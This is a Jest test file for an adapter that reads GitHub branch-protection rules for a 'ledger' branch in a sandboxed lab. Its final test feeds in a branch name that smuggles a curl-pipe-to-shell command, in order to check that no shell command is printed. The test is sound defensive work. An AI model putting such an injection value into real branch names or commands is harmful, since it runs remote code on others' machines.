import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Github } from '../../../sandbox/github/host.ts';
import { protectionOf } from '../../../src/adapters/branch/branch-rules.ts';
import { studyA } from '../ledger/ledger-events.ts';
import { branch, openLedger, repository, startLab } from '../branch-ledger/harness.ts';

const place = { repository, branch, folder: 'ledger' } as const;
const both = ['DELETION', 'NON_FAST_FORWARD'];

function rules(...types: (string | null)[]) {
  return { nodes: types.map((type) => (type === null ? null : { type })) };
}

describe('the protection of the ledger branch', () => {
  let github: Github;
  beforeAll(async () => {
    github = await startLab();
    await github.commitFile(repository, branch, 'README.md', '# Ledger\n');
    github.addToken('blind', {
      login: 'github-actions[bot]',
      type: 'Bot',
      repositories: { [repository]: 'write' },
      seesRules: false,
    });
  });
  afterAll(() => github.close());

  it.each([
    [both, 'protected', undefined],
    [['DELETION', 'REQUIRED_SIGNATURES'], 'open', 'rewritten'],
    [['NON_FAST_FORWARD'], 'open', 'deleted'],
    [[], 'open', 'deleted and rewritten'],
  ])('comes with the reading, in the same request: %j is %s', async (types, kind, gaps) => {
    github.setRules(repository, branch, types);
    const before = github.server.requests.length;

    const { protection } = await openLedger(github).read([studyA]);

    expect(protection).toMatchObject(gaps === undefined ? { kind } : { kind, gaps });
    expect(github.server.requests.length).toBe(before + 1);
  });

  it('is not known to a token that may not see rules, and that reads the ledger anyway', async () => {
    github.setRules(repository, branch, both);

    const { texts, protection } = await openLedger(github, { token: 'blind' }).read([studyA]);

    expect(protection.kind).toBe('unknown');
    expect(texts.get(studyA)).toBe('');
  });

  it('is not known of a branch that is not there', async () => {
    const { protection } = await openLedger(github, { branch: 'absent' }).read([studyA]);
    expect(protection.kind).toBe('unknown');
  });

  it.each([
    ['of a classic rule alone', { allowsDeletions: false, allowsForcePushes: false }, 'protected'],
    [
      'of a classic rule that allows it',
      { allowsDeletions: true, allowsForcePushes: true },
      'open',
    ],
  ])('counts that %s', (_name, refUpdateRule, kind) => {
    expect(protectionOf(place, { rules: rules(), refUpdateRule }).kind).toBe(kind);
  });

  it.each([
    ['GitHub leaves all out', undefined],
    ['GitHub says null', null],
    ['the list is null', { nodes: null }],
    ['one of the rules is hidden', rules('DELETION', null)],
  ])('is neither there nor missing where %s', (_name, seen) => {
    expect(protectionOf(place, { rules: seen }).kind).toBe('unknown');
  });

  it('prints no command for a branch whose name a shell would read as more', () => {
    const odd = protectionOf({ ...place, branch: "a';curl x|sh;'" }, { rules: rules() });
    expect(JSON.stringify(odd)).not.toContain('gh api');
  });
});
